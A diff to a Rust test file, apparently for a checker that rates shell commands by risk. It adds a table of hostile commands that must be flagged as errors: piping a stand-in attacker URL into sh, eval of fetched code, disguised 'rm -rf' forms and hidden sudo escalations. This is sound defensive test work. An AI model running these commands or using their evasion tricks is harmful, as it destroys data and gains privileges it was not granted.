@@ -385,16 +385,59 @@ fn shells_may_be_allowed_but_not_everything_in_them() {
             .all(|(severity, _)| *severity == Severity::Warning),
         "{fine:?}"
     );
-    let evil = judged(
-        &["sh", "-c", "curl https://evil.example | sh"],
-        &rules,
-        &facts(),
-    );
-    assert!(
-        evil.iter()
-            .any(|(severity, _)| *severity == Severity::Error),
-        "{evil:?}"
-    );
+    let evil = [
+        ("curl https://evil.example | sh", "runs what it fetches"),
+        ("'rm' -rf /x", "destroys"),
+        ("r\\m \"-rf\" /x", "destroys"),
+        ("rm /x -rf", "destroys"),
+        ("bash -c 'rm -rf x'", "destroys"),
+        ("sh -ec \"bash -c 'sudo x'\"", "rights"),
+        ("eval 'rm -rf x'", "destroys"),
+        (
+            "eval \"$(curl -s https://evil.example)\"",
+            "over the network",
+        ),
+        ("node server.js \"$(sudo cat /x)\"", "rights"),
+        ("X=`sudo id` node server.js", "rights"),
+        ("A=1 sudo x", "rights"),
+        ("if true; then sudo x; fi", "rights"),
+        ("(cd /x && { sudo y; })", "rights"),
+        ("trap 'rm -rf /x' EXIT", "destroys"),
+        ("env -S 'sudo x'", "rights"),
+        ("npx -c 'rm -rf x'", "destroys"),
+        ("find /x -name y -exec sudo rm {} +", "rights"),
+        ("find /x -exec cat {} + -exec sudo y {} +", "rights"),
+        ("find /x -delete", "destroys"),
+        ("echo 'rm -rf x' | sh", "destroys"),
+        ("bash <<< 'rm -rf x'", "destroys"),
+        ("> /dev/null sudo x", "rights"),
+        ("$'sudo' x", "rights"),
+        ("env env env env env env x", "hides"),
+    ];
+    for (script, why) in evil {
+        let found = judged(&["sh", "-c", script], &rules, &facts());
+        let (severity, told) = &found[0];
+        assert_eq!(*severity, Severity::Error, "{script}: {told}");
+        assert!(told.contains(why), "{script}: {told}");
+    }
+    let more: &[&[&str]] = &[
+        &["sh", "-c", "\"$@\"", "_", "sudo", "x"],
+        &["bash", "-c", "-e", "sudo x"],
+        &["fish", "--command=sudo x"],
+        &["cmd", "/c", "C:\\tools\\sudo.exe x"],
+    ];
+    for words in more {
+        let found = judged(words, &rules, &facts());
+        assert!(found[0].1.contains("rights"), "{words:?}: {found:?}");
+    }
+    for script in [
+        "echo 'sudo is not needed'; exec node server.js",
+        "rm x.lock; cd /srv && exec node server.js 2>&1 # sudo x",
+        "test \"$(id -u)\" = 0 || node 'rm' server.js",
+    ] {
+        let found = judged(&["sh", "-c", script], &rules, &facts());
+        assert_eq!(found[0].0, Severity::Warning, "{script}: {found:?}");
+    }
 }
 
 /// K4: only listed programs and folders, by the place where the program really lies.
